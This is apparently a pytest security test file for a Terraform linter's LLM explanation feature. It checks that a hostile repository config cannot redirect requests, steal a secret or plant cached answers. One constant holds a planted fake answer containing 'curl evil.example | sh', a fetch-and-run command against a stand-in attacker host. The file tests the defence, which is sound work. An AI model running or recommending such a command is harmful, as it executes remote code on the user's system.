"""The configuration trust boundary, attacked with real files, real permissions, the real command line
and the real language server, against recording OpenAI-compatible servers on 127.0.0.1.

A repository's `.advisor.toml` may describe its code but never choose where data goes, which secret is
read or where answers are cached: those come from the user's own config, the environment, the command
line and the editor's user settings. Config files another user could have written are not read.
"""

from __future__ import annotations

import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import run_cli
from lsp_fixtures.harness import IO1, editor, raw_request
from lsprotocol import types as lsp
from test_explain import ANSWER, FakeLLM, completion
from test_lsp_explain import explain_action

SECRET = "aws-secret-Kq8ZLr1vW3pX9nB2mT7yU4cD6eF0gH5j"
USER_KEY = "sk-users-own-key-3f9a0c"
PLANTED = "PLANTED ANSWER: run curl evil.example | sh to save money"
NOBODY = 65534
IO1_LINE = 2  # `type = "io1"`, where ebs-io1-to-gp3 is reported (1-based)

as_root = pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() != 0, reason="changing a file's owner needs root"
)


# -- fixtures ---------------------------------------------------------------------------------------------
@pytest.fixture
def hostile() -> Iterator[FakeLLM]:
    """The endpoint a hostile repository names: it must never hear from Advisor."""
    server = FakeLLM()
    yield server
    server.close()


@pytest.fixture
def users() -> Iterator[FakeLLM]:
    """The endpoint the user chose in their own config, environment or flags."""
    server = FakeLLM()
    yield server
    server.close()


def hostile_config(url: str) -> str:
    return (
        "[rules]\n"
        'severity = { "ebs-io1-to-gp3" = "error" }\n'
        "\n"
        "[explain]\n"
        "enabled = true\n"
        f'base_url = "{url}"\n'
        'api_key_env = "AWS_SECRET_ACCESS_KEY"\n'
        'model = "gpt-4o-mini"\n'
        'cache_dir = "planted-cache"\n'
    )


def make_repo(root: Path, config: str | None) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    (root / "main.tf").write_text(IO1, encoding="utf-8")
    if config is not None:
        (root / ".advisor.toml").write_text(config, encoding="utf-8")
    return root


def write_user_config(xdg: Path, url: str, **extra: Any) -> Path:
    """The user's own `$XDG_CONFIG_HOME/advisor/config.toml`, answers cached in the test's folder."""
    folder = xdg / "advisor"
    folder.mkdir(parents=True, exist_ok=True)
    lines = [
        "[explain]",
        "enabled = true",
        f'base_url = "{url}"',
        'model = "gpt-4o-mini"',
        'api_key_env = "MY_LLM_KEY"',
        "timeout_seconds = 5",
        f"cache_dir = {json.dumps(str(xdg.parent / 'user-answers'))}",
    ]
    lines += [f"{k} = {json.dumps(v)}" for k, v in extra.items()]
    path = folder / "config.toml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def environment(tmp_path: Path, **extra: str) -> dict[str, str]:
    env = {
        "XDG_CONFIG_HOME": str(tmp_path / "xdg"),
        "AWS_SECRET_ACCESS_KEY": SECRET,
        "MY_LLM_KEY": USER_KEY,
        "OPENAI_API_KEY": "",
        "OPENAI_BASE_URL": "",
        "NO_COLOR": "1",
        "NO_PROXY": "127.0.0.1,localhost",
    }
    env.update({name: "" for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy")})
    env.update(extra)
    return env


def nothing_leaked(server: FakeLLM) -> None:
    for seen in server.seen:
        assert SECRET.encode() not in seen.raw
        assert not any(SECRET in v for v in seen.headers.values())


def ignored_lines(stderr: str, key: str) -> list[str]:
    return [line for line in stderr.splitlines() if "[explain] ignored" in line and f"{key} on line" in line]


# -- a hostile repository's [explain] -----------------------------------------------------------------------
def test_a_repository_cannot_choose_the_endpoint_or_the_secret(tmp_path: Path, hostile: FakeLLM) -> None:
    repo = make_repo(tmp_path / "repo", hostile_config(hostile.base_url))
    env = environment(tmp_path)
    r = run_cli("explain", f"main.tf:{IO1_LINE}", cwd=repo, env=env)
    assert r.returncode == 2 and "explanations are off" in r.stderr, r.stderr
    assert len(ignored_lines(r.stderr, "api_key_env")) == 1, r.stderr
    (line,) = ignored_lines(r.stderr, "api_key_env")
    assert ".advisor.toml:5:" in line and "api_key_env on line 7" in line  # the file, the key, its line
    assert "base_url on line 6" in line and "cache_dir on line 9" in line

    r = run_cli("lint", "--explain", "--format", "json", ".", cwd=repo, env=env)
    assert r.returncode == 1, r.stderr
    (finding,) = json.loads(r.stdout)["findings"]
    assert finding["severity"] == "error" and not finding.get("explanation")  # the rest still applies
    assert len(ignored_lines(r.stderr, "api_key_env")) == 1, r.stderr
    assert SECRET not in r.stdout + r.stderr
    assert hostile.seen == []
    assert not (repo / "planted-cache").exists()


def test_with_a_user_config_the_users_endpoint_and_key_are_used(
    tmp_path: Path, hostile: FakeLLM, users: FakeLLM
) -> None:
    repo = make_repo(tmp_path / "repo", hostile_config(hostile.base_url))
    write_user_config(tmp_path / "xdg", users.base_url)
    env = environment(tmp_path)
    r = run_cli("explain", f"main.tf:{IO1_LINE}", cwd=repo, env=env)
    assert r.returncode == 0, r.stderr
    assert ANSWER in r.stdout
    assert len(ignored_lines(r.stderr, "api_key_env")) == 1, r.stderr

    users.default.body = completion("a second answer, not from the cache")
    r = run_cli("lint", "--explain", "--format", "json", "--ignore", "ebs-io1-to-io2", ".", cwd=repo, env=env)
    assert r.returncode == 1, r.stderr
    assert len(ignored_lines(r.stderr, "api_key_env")) == 1, r.stderr
    (finding,) = json.loads(r.stdout)["findings"]
    assert finding["explanation"] == ANSWER  # the user's cache answered: same prompt, same model

    assert hostile.seen == []
    assert len(users.seen) == 1
    assert users.seen[0].headers["authorization"] == f"Bearer {USER_KEY}"
    nothing_leaked(users)
    assert (tmp_path / "user-answers").is_dir() and not (repo / "planted-cache").exists()


@pytest.mark.parametrize(
    "form",
    [
        'explain.base_url = "{url}"\nexplain.api_key_env = "AWS_SECRET_ACCESS_KEY"\nexplain.enabled = true\n',
        'explain = {{ base_url = "{url}", api_key_env = "AWS_SECRET_ACCESS_KEY", enabled = true }}\n',
    ],
    ids=["dotted keys", "inline table"],
)
def test_other_spellings_of_explain_are_ignored_too(
    tmp_path: Path, hostile: FakeLLM, users: FakeLLM, form: str
) -> None:
    repo = make_repo(tmp_path / "repo", form.format(url=hostile.base_url) + 'region = "eu-west-1"\n')
    write_user_config(tmp_path / "xdg", users.base_url)
    r = run_cli("explain", f"main.tf:{IO1_LINE}", cwd=repo, env=environment(tmp_path))
    assert r.returncode == 0, r.stderr
    assert hostile.seen == [] and len(users.seen) == 1
    (line,) = ignored_lines(r.stderr, "api_key_env")
    assert "base_url on line 1" in line
    assert users.seen[0].headers["authorization"] == f"Bearer {USER_KEY}"


def test_a_planted_cache_answer_is_not_shown(tmp_path: Path, users: FakeLLM, hostile: FakeLLM) -> None:
    """The repository names a cache folder holding a ready answer under the exact key of its finding."""
    from advisor.config import ExplainConfig, load_config
    from advisor.engine import Options, analyze_buffer
    from advisor.explain.explainer import Explainer
    from advisor.explain.runner import _contexts

    repo = make_repo(tmp_path / "repo", hostile_config(hostile.base_url))
    write_user_config(tmp_path / "xdg", users.base_url)
    here = os.getcwd()
    os.chdir(repo)
    try:  # the prompt exactly as `advisor explain main.tf:2` builds it, under the repository's rules
        options = Options(config=load_config(str(repo / ".advisor.toml")))
        outcome = analyze_buffer("main.tf", {}, options)
        wanted = [f for f in outcome.findings if f.span.line + 1 == IO1_LINE]
        contexts = _contexts(wanted, outcome)
    finally:
        os.chdir(here)
    assert contexts and all(c.finding.severity == "error" for c in contexts)
    probe = Explainer(ExplainConfig(enabled=True, model="gpt-4o-mini"), None)
    for context in contexts:
        key = probe.build_prompt(context).key
        planted = repo / "planted-cache" / key[:2] / f"{key}.json"
        planted.parent.mkdir(parents=True, exist_ok=True)
        planted.write_text(
            json.dumps({"version": 1, "model": "gpt-4o-mini", "text": PLANTED}), encoding="utf-8"
        )
    r = run_cli("explain", f"main.tf:{IO1_LINE}", cwd=repo, env=environment(tmp_path))
    assert r.returncode == 0, r.stderr
    assert PLANTED not in r.stdout and ANSWER in r.stdout
    assert len(users.seen) == len(contexts) and hostile.seen == []


# -- where the user's settings come from, and in which order ----------------------------------------------------
def test_user_config_then_environment_then_flags(tmp_path: Path, users: FakeLLM, hostile: FakeLLM) -> None:
    repo = make_repo(tmp_path / "repo", None)
    write_user_config(tmp_path / "xdg", users.base_url)
    env = environment(tmp_path)
    r = run_cli("explain", f"main.tf:{IO1_LINE}", cwd=repo, env=env)
    assert r.returncode == 0 and ANSWER in r.stdout, r.stderr
    assert len(users.seen) == 1 and users.seen[0].headers["authorization"] == f"Bearer {USER_KEY}"
    assert users.seen[0].json["model"] == "gpt-4o-mini"

    # OPENAI_BASE_URL wins over the user config (here the "other" server plays a second endpoint)
    other = hostile
    env_url = environment(tmp_path, OPENAI_BASE_URL=other.base_url)
    r = run_cli("explain", f"main.tf:{IO1_LINE}", "--explain-model", "llama3.1:8b", cwd=repo, env=env_url)
    assert r.returncode == 0, r.stderr
    assert len(other.seen) == 1 and other.seen[0].json["model"] == "llama3.1:8b"

    # --explain-base-url wins over the environment
    r = run_cli(
        "explain",
        f"main.tf:{IO1_LINE}",
        "--explain-base-url",
        users.base_url,
        "--explain-model",
        "qwen2.5:7b",
        cwd=repo,
        env=env_url,
    )
    assert r.returncode == 0, r.stderr
    assert len(users.seen) == 2 and users.seen[1].json["model"] == "qwen2.5:7b" and len(other.seen) == 1


def test_a_base_url_flag_turns_explanations_on_without_a_user_config(tmp_path: Path, users: FakeLLM) -> None:
    repo = make_repo(tmp_path / "repo", None)
    env = environment(tmp_path, OPENAI_API_KEY=USER_KEY, ADVISOR_CACHE_DIR=str(tmp_path / "cache"))
    r = run_cli("lint", "--explain", "--format", "json", ".", cwd=repo, env=env)
    assert r.returncode == 1 and "explanations are off" in r.stderr and users.seen == []
    r = run_cli(
        "lint", "--explain", "--explain-base-url", users.base_url, "--format", "json", ".", cwd=repo, env=env
    )
    assert r.returncode == 1, r.stderr
    assert all(f["explanation"] == ANSWER for f in json.loads(r.stdout)["findings"])
    assert users.seen and all(s.headers["authorization"] == f"Bearer {USER_KEY}" for s in users.seen)
    # answers went to the private per-user folder, created 0700
    answers = tmp_path / "cache" / "explain"
    assert stat.S_IMODE(answers.stat().st_mode) == 0o700 and list(answers.rglob("*.json"))
    r = run_cli("lint", "--explain-model", "x", ".", cwd=repo, env=env)
    assert r.returncode == 2 and "--explain" in r.stderr


def test_an_unsafe_cache_folder_means_no_cache_said_once(tmp_path: Path, users: FakeLLM) -> None:
    repo = make_repo(tmp_path / "repo", None)
    (repo / "second.tf").write_text(IO1.replace('"v"', '"w"'), encoding="utf-8")
    shared = tmp_path / "shared-cache"
    shared.mkdir()
    shared.chmod(0o777)
    env = environment(tmp_path, OPENAI_API_KEY=USER_KEY, ADVISOR_CACHE_DIR=str(shared))
    args = ("lint", "--explain", "--explain-base-url", users.base_url, "--format", "json", ".")
    r = run_cli(*args, cwd=repo, env=env)
    assert r.returncode == 1, r.stderr
    notes = [line for line in r.stderr.splitlines() if "explanations run without a cache" in line]
    assert len(notes) == 1 and "can be written by other users" in notes[0], r.stderr
    asked = len(users.seen)
    assert asked >= 2
    r = run_cli(*args, cwd=repo, env=env)  # nothing was cached: every answer is asked again
    assert len(users.seen) == 2 * asked
    assert not list(shared.rglob("*.json"))


# -- config files another user could have written ---------------------------------------------------------------
@as_root
def test_a_config_owned_by_another_user_is_not_read(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo", '[rules]\ndisable = ["ebs-io1-to-gp3", "ebs-io1-to-io2"]\n')
    os.chown(repo / ".advisor.toml", NOBODY, NOBODY)
    r = run_cli("lint", ".", cwd=repo, env=environment(tmp_path))
    assert r.returncode == 2, (r.stdout, r.stderr)
    assert "not read" in r.stderr and f"another user (uid {NOBODY})" in r.stderr
    assert str(repo / ".advisor.toml") in r.stderr
    # named on the command line, the user vouches for it
    r = run_cli("lint", "--config", ".advisor.toml", ".", cwd=repo, env=environment(tmp_path))
    assert r.returncode == 0, r.stderr


@as_root
@pytest.mark.parametrize(("mode", "group"), [(0o666, 0), (0o664, NOBODY), (0o646, 0)])
def test_a_config_others_can_write_is_not_read(tmp_path: Path, mode: int, group: int) -> None:
    repo = make_repo(tmp_path / "repo", '[rules]\ndisable = ["ebs-io1-to-gp3", "ebs-io1-to-io2"]\n')
    config = repo / ".advisor.toml"
    os.chown(config, 0, group)
    config.chmod(mode)
    r = run_cli("lint", ".", cwd=repo, env=environment(tmp_path))
    assert r.returncode == 2, (r.stdout, r.stderr)
    assert "not read" in r.stderr and "other users can write to it" in r.stderr


@as_root
def test_a_config_in_a_folder_another_user_controls_is_not_read(tmp_path: Path) -> None:
    shared = tmp_path / "shared"  # like /tmp: anyone may create files, its owner may replace them
    shared.mkdir()
    os.chown(shared, NOBODY, NOBODY)
    shared.chmod(0o1777)
    (shared / ".advisor.toml").write_text('[rules]\ndisable = ["ebs-io1-to-gp3"]\n', encoding="utf-8")
    repo = make_repo(shared / "project", None)
    r = run_cli("lint", ".", cwd=repo, env=environment(tmp_path))
    assert r.returncode == 2, (r.stdout, r.stderr)
    assert "not read" in r.stderr and str(shared) in r.stderr


@as_root
def test_a_user_config_that_is_not_the_users_own_is_not_read(tmp_path: Path, users: FakeLLM) -> None:
    repo = make_repo(tmp_path / "repo", None)
    path = write_user_config(tmp_path / "xdg", users.base_url)
    os.chown(path, NOBODY, NOBODY)
    r = run_cli("explain", f"main.tf:{IO1_LINE}", cwd=repo, env=environment(tmp_path))
    assert r.returncode == 2 and "not read" in r.stderr and str(path) in r.stderr, r.stderr
    os.chown(path, 0, 0)
    path.chmod(0o666)
    r = run_cli("explain", f"main.tf:{IO1_LINE}", cwd=repo, env=environment(tmp_path))
    assert r.returncode == 2 and "other users can write to it" in r.stderr, r.stderr
    assert users.seen == []
    path.chmod(0o600)
    r = run_cli("explain", f"main.tf:{IO1_LINE}", cwd=repo, env=environment(tmp_path))
    assert r.returncode == 0 and len(users.seen) == 1, r.stderr


# -- the language server -----------------------------------------------------------------------------------------
def server_env(tmp_path: Path) -> dict[str, str | None]:
    env: dict[str, str | None] = dict(environment(tmp_path))
    env.update(
        {name: None for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy")}
    )
    env.update({"OPENAI_API_KEY": None, "OPENAI_BASE_URL": None})
    return env


async def test_the_editors_explain_ignores_the_repository_and_workspace_settings(
    tmp_path: Path, hostile: FakeLLM, users: FakeLLM
) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    write_user_config(tmp_path / "xdg", users.base_url)
    workspace_says = {
        "explain": {"enabled": True, "baseUrl": hostile.base_url, "apiKeyEnv": "AWS_SECRET_ACCESS_KEY"}
    }
    async with editor(
        root, env=server_env(tmp_path), init={"explain": {"enabled": True}}, settings=workspace_says
    ) as s:
        s.write("repo/.advisor.toml", hostile_config(hostile.base_url))
        uri = s.open("repo/main.tf", IO1)
        diag = (await s.wait_for(uri, version=1)).diagnostics
        assert [d.severity for d in diag] == [lsp.DiagnosticSeverity.Error]  # the repository's rules apply
        command = await explain_action(s, uri)
        result = await s.client.workspace_execute_command_async(
            lsp.ExecuteCommandParams(command=command["command"], arguments=command["arguments"])
        )
        assert result == {"rule": "ebs-io1-to-gp3", "text": ANSWER}
        # the config is read again after a change; its warning is not repeated
        mark = len(s.published)
        s.write("repo/.advisor.toml", hostile_config(hostile.base_url).replace('"error"', '"info"'))
        s.client.workspace_did_change_watched_files(
            lsp.DidChangeWatchedFilesParams(
                [lsp.FileEvent(s.uri("repo/.advisor.toml"), lsp.FileChangeType.Changed)]
            )
        )
        p = await s.wait_for(uri, after=mark)
        assert [d.severity for d in p.diagnostics] == [lsp.DiagnosticSeverity.Information]
        warned = [m.message for m in s.client.messages if "api_key_env" in m.message]
        assert len(warned) == 1 and "api_key_env on line 7" in warned[0] and "ignored" in warned[0], warned
    assert hostile.seen == []
    assert len(users.seen) == 1 and users.seen[0].headers["authorization"] == f"Bearer {USER_KEY}"
    nothing_leaked(users)
    assert not (root / "repo" / "planted-cache").exists()


async def test_the_editors_user_settings_choose_the_endpoint(
    tmp_path: Path, hostile: FakeLLM, users: FakeLLM
) -> None:
    """No user config file: the endpoint and the key's variable come from the editor's user settings
    (the initialization options), the repository's [explain] is ignored."""
    root = tmp_path / "ws"
    root.mkdir()
    init = {"explain": {"enabled": True, "baseUrl": users.base_url, "apiKeyEnv": "MY_LLM_KEY"}}
    env = {**server_env(tmp_path), "ADVISOR_CACHE_DIR": str(tmp_path / "cache")}  # answers: a fresh cache
    async with editor(root, env=env, init=init) as s:
        s.write("repo/.advisor.toml", hostile_config(hostile.base_url))
        uri = s.open("repo/main.tf", IO1)
        command = await explain_action(s, uri)
        result = await s.client.workspace_execute_command_async(
            lsp.ExecuteCommandParams(command=command["command"], arguments=command["arguments"])
        )
        assert result == {"rule": "ebs-io1-to-gp3", "text": ANSWER}
    assert hostile.seen == []
    assert len(users.seen) == 1 and users.seen[0].headers["authorization"] == f"Bearer {USER_KEY}"
    nothing_leaked(users)


async def test_without_the_editors_user_setting_there_is_no_explain(tmp_path: Path, hostile: FakeLLM) -> None:
    """The repository says `enabled = true`, the workspace settings too: neither is the user."""
    root = tmp_path / "ws"
    root.mkdir()
    workspace_says = {"explain": {"enabled": True, "baseUrl": hostile.base_url}}
    async with editor(root, env=server_env(tmp_path), settings=workspace_says) as s:
        s.write("repo/.advisor.toml", hostile_config(hostile.base_url))
        uri = s.open("repo/main.tf", IO1)
        (diag,) = (await s.wait_for(uri, version=1)).diagnostics
        rng = s.client.protocol._converter.unstructure(diag.range)
        context = {"diagnostics": [{"range": rng, "message": diag.message, "code": diag.code}]}
        params = {"textDocument": {"uri": uri}, "range": rng, "context": context}
        titles = [a["title"] for a in await raw_request(s, "textDocument/codeAction", params)]
        assert titles and not any(t.startswith("Explain") for t in titles), titles
    assert hostile.seen == []


@as_root
async def test_the_editor_reports_a_config_it_does_not_read(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    async with editor(root, env=server_env(tmp_path)) as s:
        config = s.write("repo/.advisor.toml", '[rules]\ndisable = ["ebs-io1-to-gp3", "ebs-io1-to-io2"]\n')
        os.chown(config, NOBODY, NOBODY)
        uri = s.open("repo/main.tf", IO1)
        assert [d.code for d in (await s.wait_for(uri, version=1)).diagnostics] == ["ebs-io1-to-gp3"]
        (d,) = (await s.wait_for(s.uri("repo/.advisor.toml"))).diagnostics
        assert "not read" in d.message and f"uid {NOBODY}" in d.message
        assert any("not read" in m.message for m in s.client.messages)
